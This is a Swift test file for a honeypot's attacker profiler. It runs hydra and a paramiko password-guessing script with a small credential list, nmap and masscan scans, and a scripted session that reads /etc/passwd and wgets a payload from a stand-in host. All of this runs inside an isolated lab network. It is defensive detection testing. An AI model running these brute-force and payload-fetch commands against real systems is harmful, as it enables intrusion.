import DecnetCore
import DecnetIntel
import DecnetStore
import DecnetTesting
import Foundation
import Testing

/// The profiler on what real tools do to deckies on a lab LAN (issue 22's scenarios): a botnet of twenty
/// addresses running hydra with one word list, the same list from another client, a scanner running nmap then
/// masscan, and a person typing into an ssh session and moving on to a second decky. The events go through the
/// workers into the store and `decnet profiler start --once` profiles them, as in production.
@Suite(.serialized) struct IntelligenceLabTests {
    static let hydra = ExternalTool("hydra", package: "hydra")
    /// Debian's interpreter, with python3-paramiko and python3-pexpect from apt.
    static let python = "/usr/bin/python3"
    static var ready: Bool {
        NativeEngineTests.rootOrCI && (ExternalTool.isCI || [Self.hydra, .nmap, .masscan].allSatisfy(\.isUsable))
    }
    static let wordlist = [
        "root:Winter2024!", "admin:Adm1n#2024", "oracle:oracle123", "ubuntu:ubuntu!23", "deploy:d3ploy",
        "git:gitlab2024", "postgres:pg_admin1", "test:Test@1234",
    ]

    /// A host of its own on the lab LAN (a bot): a namespace plugged into the lab's switch, as the lab plugs its
    /// attacker. Its name carries the harness's tag, so the harness removes it.
    static func plugHost(_ harness: NativeFleetHarness, index: Int, address: String) async throws -> String {
        let namespace = "decnet-\(harness.tag)-b\(index)"
        let port = "vb\(harness.tag.dropFirst())-\(index)"
        let commands: [[String]] = [
            ["netns", "add", namespace],
            ["-n", namespace, "link", "set", "lo", "up"],
            [
                "link", "add", "eth0", "netns", namespace, "type", "veth", "peer", "name", port, "netns",
                "decnet-\(harness.tag)-switch",
            ],
            ["-n", "decnet-\(harness.tag)-switch", "link", "set", port, "master", "br0"],
            ["-n", "decnet-\(harness.tag)-switch", "link", "set", port, "up"],
            ["-n", namespace, "addr", "add", "\(address)/24", "dev", "eth0"],
            ["-n", namespace, "link", "set", "eth0", "up"],
        ]
        for arguments in commands {
            let result = try await ProcessRunner.run("/usr/sbin/ip", arguments)
            try #require(result.status == 0, "ip \(arguments.joined(separator: " ")): \(result.standardError)")
        }
        return namespace
    }

    /// The events ingested and profiled; the store opened to read what the profiler found.
    static func profile(_ harness: NativeFleetHarness) async throws -> SQLiteEventStore {
        let ingested = try await harness.decnet(["workers", "start", "--once"])
        try #require(ingested.status == 0, "\(ingested.standardError)")
        let profiled = try await harness.decnet(["profiler", "start", "--once"])
        try #require(profiled.status == 0, "\(profiled.standardError)")
        return try SQLiteEventStore(path: harness.directory.url.appendingPathComponent("decnet.db").path)
    }

    static func profile(_ store: SQLiteEventStore, _ ip: String) async throws -> StoredAttackerProfile {
        try #require(
            try await store.intelDocument(kind: "profile", key: ip)?.decode(StoredAttackerProfile.self),
            "no profile of \(ip)"
        )
    }

    @Test(.enabled(if: ready, "needs root, hydra, nmap and masscan (CI installs them)"))
    func aBotnetAScannerAndTheSameListFromAnotherClient() async throws {
        let hydra = try #require(Self.hydra.path, "\(Self.hydra.missingMessage)")
        let nmap = try #require(ExternalTool.nmap.path, "\(ExternalTool.nmap.missingMessage)")
        let masscan = try #require(ExternalTool.masscan.path, "\(ExternalTool.masscan.missingMessage)")
        try await NativeFleetHarness.with { harness in
            let tag = harness.tag
            let net = "10.82.\(Int.random(in: 1...250))"
            let fleet = """
                [general]
                net = \(net).0/24

                [\(tag)-ssh]
                ip = \(net).10
                services = ssh, http

                [\(tag)-ssh.ssh]
                password_delay_ms = 0

                [\(tag)-ftp]
                ip = \(net).11
                services = ftp

                [\(tag)-ftp.ftp]
                password_delay_ms = 0
                """
            let file = harness.directory.url.appendingPathComponent("fleet.ini")
            try fleet.write(to: file, atomically: true, encoding: .utf8)
            let deploy = try await harness.decnet(["deploy", "--config", file.path, "--lab", "--lab-name", tag])
            try #require(deploy.status == 0, "\(deploy.standardOutput)\(deploy.standardError)")
            let list = harness.directory.url.appendingPathComponent("wordlist.txt").path
            try (Self.wordlist.joined(separator: "\n") + "\n").write(toFile: list, atomically: true, encoding: .utf8)

            // Twenty bots, each its own address, each running hydra with the one list against ssh and ftp.
            let bots = (1...20).map { "\(net).\(100 + $0)" }
            var namespaces: [String] = []
            for (index, address) in bots.enumerated() {
                namespaces.append(try await Self.plugHost(harness, index: index + 1, address: address))
            }
            // Four bots at a time: twenty hydra runs at once starved the other live tests of CI's two cores.
            let runs = try await withThrowingTaskGroup(of: (String, ProcessResult, ProcessResult).self) { group in
                var all: [(String, ProcessResult, ProcessResult)] = []
                for (index, namespace) in namespaces.enumerated() {
                    if index >= 4, let finished = try await group.next() { all.append(finished) }
                    let directory = harness.directory.url.appendingPathComponent("bot\(index + 1)")
                    try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
                    group.addTask {
                        let ssh = try await ProcessRunner.run(
                            "/usr/sbin/ip",
                            [
                                "netns", "exec", namespace, hydra, "-I", "-t", "1", "-w", "30", "-C", list,
                                "ssh://\(net).10",
                            ],
                            in: directory
                        )
                        let ftp = try await ProcessRunner.run(
                            "/usr/sbin/ip",
                            [
                                "netns", "exec", namespace, hydra, "-I", "-t", "1", "-w", "30", "-C", list,
                                "ftp://\(net).11",
                            ],
                            in: directory
                        )
                        return (namespace, ssh, ftp)
                    }
                }
                for try await run in group { all.append(run) }
                return all
            }
            for (namespace, ssh, ftp) in runs {
                #expect(
                    ssh.standardOutput.contains("0 valid password"),
                    "\(namespace) ssh: \(ssh.standardOutput)\(ssh.standardError)"
                )
                #expect(
                    ftp.standardOutput.contains("0 valid password"),
                    "\(namespace) ftp: \(ftp.standardOutput)\(ftp.standardError)"
                )
            }
            // The same list from another address with another client (paramiko).
            let other = "\(net).150"
            let otherNamespace = try await Self.plugHost(harness, index: 50, address: other)
            let script = """
                import sys, paramiko
                for pair in open(sys.argv[2]).read().split():
                    user, password = pair.split(":", 1)
                    client = paramiko.SSHClient()
                    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
                    try:
                        client.connect(sys.argv[1], username=user, password=password, look_for_keys=False,
                                       allow_agent=False, timeout=30, banner_timeout=30, auth_timeout=30)
                    except paramiko.AuthenticationException:
                        print("refused", user)
                    finally:
                        client.close()
                """
            let paramiko = try await ProcessRunner.run(
                "/usr/sbin/ip",
                ["netns", "exec", otherNamespace, Self.python, "-c", script, "\(net).10", list]
            )
            #expect(
                paramiko.standardOutput.components(separatedBy: "refused").count - 1 == 8,
                "\(paramiko.standardOutput)\(paramiko.standardError)"
            )

            // A scanner: nmap -sS -sV, then masscan, from the lab's attacker.
            let scanner = "\(net).254"
            let scan = try await harness.attacker([
                nmap, "-sS", "-sV", "-Pn", "-n", "-p", "21,22,80,443,3306", "\(net).10", "\(net).11",
            ])
            let lines = scan.standardOutput.split(separator: "\n").map {
                $0.split(separator: " ").joined(separator: " ")
            }
            #expect(lines.contains { $0.hasPrefix("22/tcp open ssh") }, "\(scan.standardOutput)")
            let swept = try await harness.attacker([
                masscan, "-p1-1000", "\(net).10-\(net).11", "--rate", "2000", "--wait", "2",
            ])
            #expect(swept.status == 0, "\(swept.standardError)")
            // The packet layer reports a scan once it has seen it end.
            try await Task.sleep(for: .seconds(6))

            let store = try await Self.profile(harness)
            let identities = try await store.intelDocuments(kind: "identity").compactMap {
                $0.decode(AttackerIdentity.self)
            }
            .filter { $0.state == .active }
            try #require(identities.count == 1, "\(identities.map(\.members))")
            let botnet = identities[0]
            #expect(botnet.members == bots.sorted(), "\(botnet.members)")
            #expect(botnet.behaviour == .credentialStuffer)
            let reasons = Set(botnet.reasons.map(\.kind))
            #expect(reasons.isSuperset(of: [.credentialList, .clientFingerprint]), "\(botnet.reasons)")
            #expect(botnet.reasons.first { $0.kind == .clientFingerprint }?.detail.contains("hassh:") == true)
            let bot = try await Self.profile(store, bots[0])
            #expect(bot.behaviour.behaviour == .credentialStuffer, "\(bot.behaviour.evidence)")
            #expect(bot.behaviour.phases.map(\.phase).contains(.credentialAccess))
            #expect(bot.evidence.credentials == Self.wordlist, "\(bot.evidence.credentials)")
            let botTechniques = Set((bot.techniques ?? []).map(\.technique))
            #expect(botTechniques.isSuperset(of: ["T1110", "T1110.004"]), "\(botTechniques)")

            // Negative control: the same list from paramiko is not the botnet.
            let loner = try await Self.profile(store, other)
            #expect(loner.identity == nil && !botnet.members.contains(other))
            #expect(loner.evidence.credentials == Self.wordlist)

            // The scanner: class, phase and tools with their evidence; in no identity.
            let scanned = try await Self.profile(store, scanner)
            #expect(scanned.behaviour.behaviour == .scanner, "\(scanned.behaviour.evidence)")
            #expect(scanned.behaviour.phases.first?.phase == .reconnaissance)
            let tools = Dictionary(
                scanned.behaviour.tools.map { ($0.tool, $0) },
                uniquingKeysWith: { first, _ in first }
            )
            #expect(tools.keys.contains("nmap") && tools.keys.contains("masscan"), "\(scanned.behaviour.tools)")
            // Each named from what the packet layer saw of it: its scan, or its SYN's fingerprint (masscan's SYN
            // has no options at all, nmap's an MSS of 1460 only).
            for name in ["nmap", "masscan"] {
                let tool = try #require(tools[name])
                #expect(tool.evidence.contains("tool=\(name)") || tool.evidence.hasPrefix("TCP SYN 1024_"), "\(tool)")
                #expect(tool.source.hasPrefix("DecnetPacket"), "\(tool)")
            }
            #expect(scanned.identity == nil)
            let scanTechniques = Set((scanned.techniques ?? []).map(\.technique))
            #expect(scanTechniques.isSuperset(of: ["T1046", "T1595"]), "\(scanTechniques)")
            #expect(try await harness.decnet(["teardown", "--all"]).status == 0)
            #expect(try await harness.decnet(["lab", "down"]).status == 0)
        }
    }

    /// A person: an interactive session typed at a person's pace (`id`, `uname -a`, `cat /etc/passwd`, a
    /// `wget` of a payload, an `ssh` to the next host), then a session on that second decky.
    @Test(.enabled(if: ready, "needs root and python3-pexpect (CI installs it)"))
    func aPersonTypingAndMovingOn() async throws {
        try await NativeFleetHarness.with { harness in
            let tag = harness.tag
            let net = "10.83.\(Int.random(in: 1...250))"
            let fleet = """
                [general]
                net = \(net).0/24

                [\(tag)-app]
                ip = \(net).20
                services = ssh

                [\(tag)-app.ssh]
                users = root:toor
                password_delay_ms = 0

                [\(tag)-db]
                ip = \(net).21
                services = ssh

                [\(tag)-db.ssh]
                users = root:toor
                password_delay_ms = 0
                """
            let file = harness.directory.url.appendingPathComponent("fleet.ini")
            try fleet.write(to: file, atomically: true, encoding: .utf8)
            let deploy = try await harness.decnet(["deploy", "--config", file.path, "--lab", "--lab-name", tag])
            try #require(deploy.status == 0, "\(deploy.standardOutput)\(deploy.standardError)")
            let typist = PackageLayout.root.appendingPathComponent("Tests/DecnetRuntimeTests/Scripts/ssh_typist.py")
                .path
            let first = try await harness.attacker([
                Self.python, typist, "\(net).20", "22", "root", "toor", "id", "uname -a", "cat /etc/passwd",
                "wget http://198.51.100.77/x.sh", "ssh root@\(net).21",
            ])
            #expect(first.status == 0, "\(first.standardOutput)\(first.standardError)")
            let second = try await harness.attacker([
                Self.python, typist, "\(net).21", "22", "root", "toor", "id", "ls -la",
            ])
            #expect(second.status == 0, "\(second.standardOutput)\(second.standardError)")

            let store = try await Self.profile(harness)
            let person = try await Self.profile(store, "\(net).254")
            #expect(person.behaviour.behaviour == .interactive, "\(person.behaviour.evidence)")
            let keystrokes = try #require(person.behaviour.keystrokes)
            #expect(keystrokes.entry == .typed && keystrokes.isHuman, "\(keystrokes)")
            #expect(keystrokes.corrections >= 1)
            let phases = person.behaviour.phases
            let order = phases.map(\.phase)
            let wanted: [IntrusionPhase] = [.discovery, .execution, .commandAndControl, .lateralMovement]
            let seen = order.filter { wanted.contains($0) }
            #expect(seen == wanted, "\(order)")
            // In order, with times: each after the one before.
            let times = wanted.compactMap { phase in phases.first { $0.phase == phase }?.first }
            #expect(times.count == 4 && zip(times, times.dropFirst()).allSatisfy { $0.0 <= $0.1 }, "\(phases)")
            #expect(phases.first { $0.phase == .commandAndControl }?.evidence.contains("wget") == true)
            #expect(person.evidence.payloadHosts == ["198.51.100.77"])
            // The techniques its events imply, each with the rule that fired, as `decnet ttp list` shows them.
            let tags = person.techniques ?? []
            for (technique, rule) in [
                ("T1078", "R0013"), ("T1021.004", "R0014"), ("T1059.004", "R0020"), ("T1033", "R0024"),
                ("T1082", "R0023"), ("T1087.001", "R0025"), ("T1105", "R0021"), ("T1021.004", "R0031"),
                ("T1021", "R0050"),
            ] {
                #expect(
                    tags.contains { $0.technique == technique && $0.rule == rule },
                    "\(technique) by \(rule): \(tags.map(\.technique))"
                )
            }
            let listed = try await harness.decnet(["ttp", "list", "--attacker", "\(net).254"])
            #expect(listed.status == 0, "\(listed.standardError)")
            for technique in ["T1059.004", "T1105", "T1082", "T1021.004"] {
                #expect(listed.standardOutput.contains(technique), "\(listed.standardOutput)")
            }
            #expect(listed.standardOutput.contains("The MITRE Corporation"))
            #expect(try await harness.decnet(["teardown", "--all"]).status == 0)
            #expect(try await harness.decnet(["lab", "down"]).status == 0)
        }
    }
}
